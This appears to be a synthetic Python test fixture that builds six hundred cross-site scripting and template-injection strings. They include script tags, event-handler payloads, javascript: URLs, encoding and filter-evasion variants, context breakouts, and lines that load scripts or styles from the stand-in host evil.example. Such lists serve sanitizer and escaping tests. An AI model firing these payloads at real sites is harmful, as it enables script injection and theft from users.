"""Six hundred strings that would run a script wherever text is put into a page unescaped. Synthetic.

Each would call `ran(N)`, open a dialog, or load from a place that the policy does not allow.
"""

from itertools import product
from typing import Final

_RUNS: Final = ("ran(N)", "top.ran(N)", "alert(N)", "window['r'+'an'](N)", "setTimeout('ran(N)',0)")
_WAYS: Final = (
    "<script>RUN</script>",
    "</script><script>RUN</script>",
    "<ScRiPt>RUN</sCrIpT>",
    "<script >RUN</script\t\n bar>",
    "<scr<script>ipt>RUN</scr</script>ipt>",
    "<img src=x onerror=RUN>",
    '"><img src=x onerror="RUN">',
    "'><img src=x onerror='RUN'>",
    "<img src=x:x onerror=RUN//",
    "<svg onload=RUN>",
    "<svg/onload=RUN//",
    "<svg><script>RUN</script></svg>",
    "<svg><animate onbegin=RUN attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=RUN>",
    "<body onload=RUN>",
    "<iframe srcdoc='<script>parent.RUN</script>'></iframe>",
    "<iframe src=javascript:parent.RUN></iframe>",
    "<object data=javascript:RUN></object>",
    "<details open ontoggle=RUN>",
    "<input autofocus onfocus=RUN>",
    '" autofocus onfocus="RUN" x="',
    "' onmouseover='RUN' style='position:fixed;inset:0' x='",
    '" style="animation:x 1ms" onanimationstart="RUN',
    "<video><source onerror=RUN></video>",
    "<audio src=x onerror=RUN>",
    "<marquee onstart=RUN>x</marquee>",
    "javascript:RUN",
    "JaVaScRiPt:RUN",
    "java\tscript:RUN",
    " javascript:RUN",
    "data:text/html,<script>RUN</script>",
    "<a href=javascript:RUN>klik</a>",
    "<form action=javascript:RUN><button>kirim</button></form>",
    "<meta http-equiv=refresh content='0;url=javascript:RUN'>",
    "<base href='http://evil.example/RUN/'>",
    "<link rel=stylesheet href='http://evil.example/RUN.css'>",
    "<style>@import 'http://evil.example/RUN';</style>",
    "<style>*{background:url(http://evil.example/RUN)}</style>",
    "<p style=\"background:url('http://evil.example/RUN')\">",
    "</title><script>RUN</script>",
    "</textarea><script>RUN</script>",
    "</style><script>RUN</script>",
    "--><script>RUN</script>",
    "]]><script>RUN</script>",
    "<![CDATA[<script>RUN</script>]]>",
    "{{ RUN }}{% raw %}<script>RUN</script>",
    "{{7*7}}{{request.app.state.room}}${RUN}",
    "%3Cscript%3ERUN%3C/script%3E",
    "&lt;script&gt;RUN&lt;/script&gt;",
    "&#60;script&#62;RUN&#60;/script&#62;",
    "\\u003cscript\\u003eRUN\\u003c/script\\u003e",
    "\ufeff<script>RUN</script>",
    "\u2028<script>RUN</script>\u2029",
    "\uff1cscript\uff1eRUN\uff1c/script\uff1e",
    "<noscript><p title='</noscript><img src=x onerror=RUN>'>",
    "<template><script>RUN</script></template><img src=x onerror=RUN>",
    "<xmp><p title='</xmp><img src=x onerror=RUN>'>",
    "<mark><script>RUN</script></mark>",
    "\u0002<script>RUN</script>\u0003",
    "<script src=http://evil.example/RUN.js></script>",
)
_DRESSES: Final = ("WAY", "Pasar WAY Baru")

INJECTIONS: Final = tuple(
    dress.replace("WAY", way.replace("RUN", run)).replace("(N)", f"({number})")
    for number, (dress, way, run) in enumerate(product(_DRESSES, _WAYS, _RUNS))
)
